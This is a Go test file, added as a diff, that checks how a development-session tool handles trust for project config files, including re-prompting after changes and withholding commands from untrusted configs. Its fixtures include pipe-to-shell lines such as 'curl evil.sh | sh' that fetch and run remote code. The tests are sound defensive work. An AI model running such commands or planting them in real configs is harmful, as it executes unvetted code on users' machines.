@@ -0,0 +1,174 @@
+package config
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func TestTrust(t *testing.T) {
+	t.Setenv("MXT_CONFIG_DIR", t.TempDir())
+	path := filepath.Join(t.TempDir(), ".mxt.toml")
+	if err := os.WriteFile(path, []byte("pre_session_cmd = \"npm install\"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	assertTrusted := func(step string, expected bool) {
+		t.Helper()
+		trusted, err := IsTrusted(path)
+		if err != nil {
+			t.Fatalf("%s: IsTrusted() error = %v", step, err)
+		}
+		if trusted != expected {
+			t.Errorf("%s: IsTrusted() = %v, want %v", step, trusted, expected)
+		}
+	}
+
+	assertTrusted("new file", false)
+	if err := Trust(path); err != nil {
+		t.Fatalf("Trust() error = %v", err)
+	}
+	assertTrusted("after Trust", true)
+
+	if err := os.WriteFile(path, []byte("pre_session_cmd = \"curl evil.sh | sh\"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	assertTrusted("after a change", false)
+
+	if err := Trust(path); err != nil {
+		t.Fatalf("Trust() error = %v", err)
+	}
+	removed, err := Untrust(path)
+	if err != nil || !removed {
+		t.Fatalf("Untrust() = %v, %v, want true", removed, err)
+	}
+	assertTrusted("after Untrust", false)
+	if removed, _ := Untrust(path); removed {
+		t.Errorf("second Untrust() = true, want false")
+	}
+
+	// Trust covers included files too
+	includedPath := filepath.Join(filepath.Dir(path), "team.toml")
+	if err := os.WriteFile(includedPath, []byte("pre_session_cmd = \"make\"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte("include = [\"team.toml\"]\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := Trust(path); err != nil {
+		t.Fatalf("Trust() error = %v", err)
+	}
+	assertTrusted("with an include", true)
+	if err := os.WriteFile(includedPath, []byte("pre_session_cmd = \"curl evil.sh | sh\"\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	assertTrusted("after a change to the included file", false)
+}
+
+func TestCommandSettings(t *testing.T) {
+	file := &File{
+		Terminal:      stringPtr("iterm2"),
+		PreSessionCmd: stringPtr("npm install"),
+		TmuxLayout:    []string{"dev:hx", "agent:"},
+		Hooks: map[string]HookConfig{
+			"pre_delete": {Command: "bin/dump", OnFailure: "abort"},
+		},
+		Profiles: map[string]*File{
+			"docs": {SandboxTool: stringPtr("firejail")},
+		},
+		Rules: []Rule{
+			{Branch: "spike/*", File: &File{PreSessionCmd: stringPtr("make quick")}},
+		},
+	}
+	expected := []string{
+		"pre_session_cmd = npm install",
+		"tmux_layout = dev:hx",
+		"tmux_layout = agent:",
+		"hooks.pre_delete = bin/dump",
+		"profiles.docs.sandbox_tool = firejail",
+		"rules[spike/*].pre_session_cmd = make quick",
+	}
+	if got := CommandSettings(file); !reflect.DeepEqual(got, expected) {
+		t.Errorf("CommandSettings() = %q, want %q", got, expected)
+	}
+	if got := CommandSettings(&File{Terminal: stringPtr("iterm2")}); len(got) != 0 {
+		t.Errorf("CommandSettings() = %q, want none", got)
+	}
+}
+
+func TestLoadLayersUntrustedProject(t *testing.T) {
+	tmpHome := t.TempDir()
+	tmpRepo := t.TempDir()
+	t.Setenv("HOME", tmpHome)
+	t.Setenv("MXT_CONFIG_DIR", "")
+
+	cmd := exec.Command("git", "init")
+	cmd.Dir = tmpRepo
+	if err := cmd.Run(); err != nil {
+		t.Fatalf("Failed to initialize git repo: %v", err)
+	}
+	projectPath := filepath.Join(tmpRepo, ".mxt.toml")
+	projectContent := `terminal = "iterm2"
+pre_session_cmd = "curl https://example.com/install.sh | sh"
+
+[hooks]
+post_create = "bin/setup"
+
+[profiles.docs]
+tmux_layout = ["edit: nvim"]
+copy_files = ["README.md"]
+
+[[rules]]
+branch = "spike/*"
+sandbox_tool = "sh -c"
+base_branch = "develop"
+`
+	if err := os.WriteFile(projectPath, []byte(projectContent), 0o644); err != nil {
+		t.Fatalf("Failed to create project config file: %v", err)
+	}
+
+	tests := []struct {
+		name            string
+		prompt          func(path string, commands []string) bool
+		expectUntrusted bool
+	}{
+		{"no prompt", nil, true},
+		{"prompt declined", func(string, []string) bool { return false }, true},
+		{"prompt accepted", func(string, []string) bool { return true }, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			SetTrustPrompt(tt.prompt)
+			defer SetTrustPrompt(nil)
+
+			layers, err := LoadLayers(tmpRepo, "spike/x", "docs")
+			if err != nil {
+				t.Fatalf("LoadLayers() error = %v", err)
+			}
+			project := layers[2]
+			if project.Source != SourceProject || project.Untrusted != tt.expectUntrusted {
+				t.Fatalf("layers[2] = %s (untrusted %v), want project (untrusted %v)", project.Source, project.Untrusted, tt.expectUntrusted)
+			}
+
+			config, err := LoadConfigFor(tmpRepo, "spike/x", "docs")
+			if err != nil {
+				t.Fatalf("LoadConfigFor() error = %v", err)
+			}
+			// Other keys apply either way
+			if config.Terminal != "iterm2" || config.BaseBranch != "develop" || !reflect.DeepEqual(config.CopyFiles, []string{"README.md"}) {
+				t.Errorf("LoadConfigFor() = terminal %q, base_branch %q, copy_files %q; want the project values", config.Terminal, config.BaseBranch, config.CopyFiles)
+			}
+			hasCommands := config.PreSessionCmd != "" || config.SandboxTool != "" || len(config.TmuxLayout) > 0 || config.Hooks["post_create"].Command != ""
+			if hasCommands == tt.expectUntrusted {
+				t.Errorf("LoadConfigFor() commands applied = %v, want %v", hasCommands, !tt.expectUntrusted)
+			}
+		})
+	}
+
+	// The accepted prompt recorded the file as trusted
+	if trusted, err := IsTrusted(projectPath); err != nil || !trusted {
+		t.Errorf("IsTrusted() = %v, %v, want true after accepting the prompt", trusted, err)
+	}
+}